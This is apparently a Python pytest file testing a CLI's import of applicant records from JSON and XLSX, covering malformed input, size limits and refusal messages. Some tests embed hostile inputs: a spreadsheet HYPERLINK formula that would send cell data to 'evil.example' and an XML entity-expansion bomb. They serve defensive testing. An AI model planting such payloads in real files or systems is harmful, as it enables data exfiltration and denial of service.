"""Import: no silent loss, no developer messages, bounded cost (issue 13) — on SQLite and
(with TIZILIM_TEST_PG_URL) PostgreSQL alike."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from desktop.cli.main import main
from reports.intake_xlsx import write_template
from tests.factories import application, envelope, many, write_json
from tests.models.test_import import _fill_template

PW = "correct horse battery staple"


@pytest.fixture
def cli(db_url: str, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> Any:
    monkeypatch.setenv("TIZILIM_PASSWORD", PW)

    def run(*args: str) -> tuple[int, str, str]:
        code = main(["--db", db_url, *args])
        out, err = capsys.readouterr()
        return code, out, err

    assert run("init")[0] == 0
    assert run("user", "add", "admin", "--role", "admin",
               "--name", "Әкімші Тест", "--position", "бас маман")[0] == 0
    monkeypatch.setenv("TIZILIM_USER", "admin")
    return run


def _one_line_refusal(result: tuple[int, str, str], *words: str) -> None:
    code, out, err = result
    assert code == 2, (code, out, err)
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert "internal error" not in err and "Error:" not in err, err
    for w in words:
        assert w in err, err


def _xlsx(tmp_path: Path, n: int, name: str = "t.xlsx") -> Path:
    path = tmp_path / name
    write_template(path)
    rows = []
    for a in many(n):
        s = a["specialist"]
        rows.append({
            "portal_id": a["portal_id"], "received_at": a["received_at"],
            "last_name": s["last_name"], "first_name": s["first_name"],
            "middle_name": s["middle_name"], "iin": s["iin"], "birth_date": s["birth_date"],
            "phone": s["phone"], "email": s["email"], "region": "Абай облысы",
            "settlement": "Семей", "registration_address": "Абай даңғылы, 12",
            "profession": "PSYCHOLOGIST", "experience_years": 7, "experience_months": 4,
            "education1_level": "жоғары білім", "education1_institution": "ҚазҰУ",
            "education1_start": "2004-09-01", "education1_end": "2008-06-30",
            "education1_document": "ЖБ-1", "employment1_organization": "ЦСО",
            "employment1_bin": s["employment"][0]["bin"], "employment1_position": "психолог",
            "employment1_start": "2015-02-01", "category": "NONE", "consent_to_publish": "иә"})
    _fill_template(path, rows)
    return path


def _rezip(src: Path, dst: Path, edit: dict[str, Any]) -> Path:
    """Copy a workbook, replacing (bytes → bytes) or dropping (None) some parts."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename in edit:
                if edit[item.filename] is None:
                    continue
                data = edit[item.filename](data)
            zout.writestr(item.filename, data)
    return dst


SHEET = "xl/worksheets/sheet1.xml"


def test_an_understated_dimension_loses_no_row(cli: Any, tmp_path: Path) -> None:
    good = _xlsx(tmp_path, 10)
    stale = _rezip(good, tmp_path / "stale.xlsx", {SHEET: lambda d: re.sub(
        rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:BM4"/>', d)})
    assert b'ref="A1:BM4"' in zipfile.ZipFile(stale).read(SHEET)
    code, out, err = cli("import", str(stale))
    assert code == 0 and "10 records: 10 imported" in out, (out, err)


def test_the_rejection_report_never_writes_a_formula(cli: Any, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    apps = [application(portal_id=evil), *many(1)]
    report = tmp_path / "rejected.xlsx"
    code, out, err = cli("import", str(write_json(tmp_path / "a.json", apps)),
                         "--report", str(report))
    assert code == 3, err
    ws = load_workbook(report).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    xml = zipfile.ZipFile(report).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


@pytest.mark.parametrize("case", ["digits", "utf8", "cut_json", "huge_record"])
def test_malformed_json_is_refused_with_one_line_naming_the_place(
        cli: Any, tmp_path: Path, case: str) -> None:
    p = tmp_path / "bad.json"
    good = json.dumps(envelope(many(2)), ensure_ascii=False)
    if case == "digits":
        doc = envelope(many(2))
        text = json.dumps(doc, ensure_ascii=False).replace('"years": 7', '"years": ' + "9" * 5000)
        p.write_text(text, encoding="utf-8")
        _one_line_refusal(cli("import", str(p)), "record 1", "line")
    elif case == "utf8":
        p.write_bytes(good.encode().replace("Семей".encode(), b"\xed\xa0\x80", 1))
        _one_line_refusal(cli("import", str(p)), "line 1")
    elif case == "cut_json":
        p.write_text(good[: len(good) * 2 // 3], encoding="utf-8")
        _one_line_refusal(cli("import", str(p)), "record 2")
    else:
        a = application()
        a["specialist"]["education"] = a["specialist"]["education"] * 100_000
        p.write_text(json.dumps(envelope([a]), ensure_ascii=False), encoding="utf-8")
        _one_line_refusal(cli("import", str(p)), "record 1")


@pytest.mark.parametrize(("received", "code"), [
    ("0001-01-01T00:00:00+14:00", "received_at"), ("9999-12-31T23:59:59+05:00", "received_at"),
    ("0001-01-01T00:00:00", "received_at")])
def test_moments_outside_the_calendar_reject_the_record(cli: Any, tmp_path: Path,
                                                        received: str, code: str) -> None:
    apps = [application(received_at=received), *many(2, start=2)]
    c, out, err = cli("import", str(write_json(tmp_path / "a.json", apps)))
    assert c == 3 and "2 imported" in out and "1 rejected" in out, (out, err)
    assert f"record 1 P-2026-000001: {code}:" in err and "Traceback" not in err


@pytest.mark.parametrize(("where", "field"), [
    (("last_name",), "last_name"), (("address", "settlement"), "address.settlement"),
    (("education", 0, "institution"), "education[1].institution"),
    (("employment", 0, "position"), "employment[1].position")])
@pytest.mark.parametrize("char", ["\x00", "\ud800"])
def test_nul_or_lone_surrogate_rejects_the_record_naming_the_field(
        cli: Any, tmp_path: Path, where: tuple[Any, ...], field: str, char: str) -> None:
    apps = many(3)
    target: Any = apps[1]["specialist"]
    for k in where[:-1]:
        target = target[k]
    target[where[-1]] = target[where[-1]] + char
    p = tmp_path / "a.json"
    p.write_text(json.dumps(envelope(apps), ensure_ascii=True), encoding="utf-8")
    code, out, err = cli("import", str(p))
    assert code == 3 and "2 imported" in out and "1 rejected" in out, (out, err)
    assert f"record 2 P-2026-000002: {field}:" in err, err
    assert ("NUL" in err) if char == "\x00" else ("суррогат" in err)


def test_limits_per_record(cli: Any, tmp_path: Path) -> None:
    from models.intake.limits import MAX_LIST_ROWS, MAX_RECORD_CHARS

    apps = many(3)
    apps[0]["specialist"]["education"] = apps[0]["specialist"]["education"] * (MAX_LIST_ROWS + 1)
    apps[1]["specialist"]["registration_address"] = "д" * (MAX_RECORD_CHARS + 1)
    code, out, err = cli("import", str(write_json(tmp_path / "a.json", apps)))
    assert code == 3 and "1 imported" in out and "2 rejected" in out, (out, err)
    assert f"record 1 P-2026-000001: education: Слишком много строк в списке (не более " \
           f"{MAX_LIST_ROWS})" in err
    assert "record 2 P-2026-000002: application: Запись слишком большая" in err


def test_limits_per_file(cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import models.intake.jsonstream as js
    import models.intake.readers as readers

    monkeypatch.setattr(js, "MAX_RECORDS", 3)
    monkeypatch.setattr(readers, "MAX_RECORDS", 3)
    _one_line_refusal(cli("import", str(write_json(tmp_path / "a.json", many(4)))),
                      "не более 3")
    _one_line_refusal(cli("import", str(_xlsx(tmp_path, 4))), "не более 3")
    monkeypatch.setattr(readers, "MAX_XLSX_UNCOMPRESSED", 10_000)
    _one_line_refusal(cli("import", str(_xlsx(tmp_path, 1, "small.xlsx"))))
    assert "0 applications" in cli("list")[2]


@pytest.mark.parametrize("case", ["doctype", "entity_in_strings", "no_sheet", "cut_sheet",
                                  "cut_strings"])
def test_malformed_workbooks_are_refused_with_one_line(cli: Any, tmp_path: Path,
                                                       case: str) -> None:
    good = _xlsx(tmp_path, 3)
    bomb = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>')
    def with_bomb(d: bytes) -> bytes:
        return bomb + re.sub(rb"^<\?xml[^>]*\?>", b"", d)

    edits: dict[str, Any] = {
        "doctype": {SHEET: with_bomb},
        "entity_in_strings": {SHEET: lambda d: re.sub(rb"(<[vt][^>]*>)", rb"\1&b;",
                                                      with_bomb(d), count=1)},
        "no_sheet": {"xl/workbook.xml": lambda d: re.sub(rb"<sheets>.*</sheets>",
                                                         b"<sheets/>", d, flags=re.S),
                     SHEET: None},
        "cut_sheet": {SHEET: lambda d: d[: len(d) * 2 // 3]},
        "cut_strings": {SHEET: lambda d: d.replace(b"</sheetData>", b"")},
    }
    bad = _rezip(good, tmp_path / f"{case}.xlsx", edits[case])
    words = {"doctype": ("XML", "sheet1.xml"), "no_sheet": (), "cut_sheet": ("повреждён",),
             "entity_in_strings": ("XML",), "cut_strings": ("повреждён",)}[case]
    _one_line_refusal(cli("import", str(bad)), *words)
    assert "0 applications" in cli("list")[2]
